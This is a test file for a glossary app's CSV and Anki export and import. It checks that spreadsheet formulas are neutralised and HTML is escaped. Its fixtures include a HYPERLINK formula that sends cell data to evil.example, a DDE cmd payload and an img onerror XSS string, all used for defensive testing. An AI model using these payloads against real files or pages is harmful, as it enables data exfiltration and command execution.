/**
 * Exports carry what web pages wrote (titles, sentences, URLs): a spreadsheet must not run
 * it as a formula, and Anki must not read it as HTML or as a header line. Import takes the
 * neutralising quote off again, so a CSV round trip gives the text back as it was.
 */
import 'fake-indexeddb/auto';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { GlossaryDb, SavedTerm } from './db';
import { ankiField, neutraliseCell, restoreCell, toAnkiTsv, toCsv } from './export';
import { freshDb, kafrNabl, kafrNablEntry, listTerms } from './fixtures.test-util';
import { applyImport, planImport } from './import';
import { parseCsvImport, previewCsv } from './import-csv';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A2,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

const hostile = (text: string): SavedTerm => ({
  ...kafrNabl,
  note: text,
  contexts: [{ ...kafrNabl.contexts[0], title: text, sentence: text, url: 'https://news.example/a' }],
});

describe('CSV cells a spreadsheet would run', () => {
  it.each(FORMULAS)('%j is written with a leading quote', (formula) => {
    expect(neutraliseCell(formula)).toBe(`'${formula}`);
    expect(restoreCell(neutraliseCell(formula))).toBe(formula);
  });

  it.each(['إدلب', 'Kafr Nabl', "'quoted", '1-2', 'a=b', ''])('%j is left as it is', (text) => {
    expect(neutraliseCell(text)).toBe(text);
    expect(restoreCell(text)).toBe(text);
  });

  it('no cell of an export starts a formula, whatever the page title was', () => {
    const rows = Papa.parse<string[]>(toCsv(FORMULAS.map(hostile)).replace(/^\uFEFF/, '')).data;
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1]).toContain(`'${FORMULAS[0]}`);
  });
});

describe('CSV round trip of neutralised cells', () => {
  let db: GlossaryDb;
  beforeEach(async () => {
    db = await freshDb('export-safety', kafrNablEntry);
  });
  afterEach(() => db.delete());

  it('import takes the quote off: the title comes back as the page wrote it', async () => {
    const term = hostile('=HYPERLINK("http://evil.example")');
    const csv = toCsv([term]);
    const parsed = await parseCsvImport(csv, previewCsv(csv).mapping, undefined, Date.UTC(2026, 1, 1));
    expect(parsed.problems).toEqual([]);
    await applyImport(db, (await planImport(db, parsed)).terms);
    const [back] = await listTerms(db);
    expect(back.note).toBe(term.note);
    expect(back.contexts[0].title).toBe('=HYPERLINK("http://evil.example")');
    expect(toCsv([back])).toBe(csv);
  });
});

describe('Anki fields', () => {
  it('escape HTML, so a note or sentence is shown as text', () => {
    expect(ankiField('<img src=x onerror=alert(1)> & "q"')).toBe(
      '&lt;img src=x onerror=alert(1)&gt; &amp; &quot;q&quot;',
    );
  });

  it('escape a leading #, which Anki would take for a header line and drop', () => {
    const lines = toAnkiTsv([{ ...kafrNabl, ar: '#كفرنبل' }]).split('\n');
    const notes = lines.filter((line) => line && !line.startsWith('#'));
    expect(notes).toHaveLength(1);
    expect(notes[0].startsWith('&#35;كفرنبل\t')).toBe(true);
    expect(lines).toContain('#html:true');
  });
});
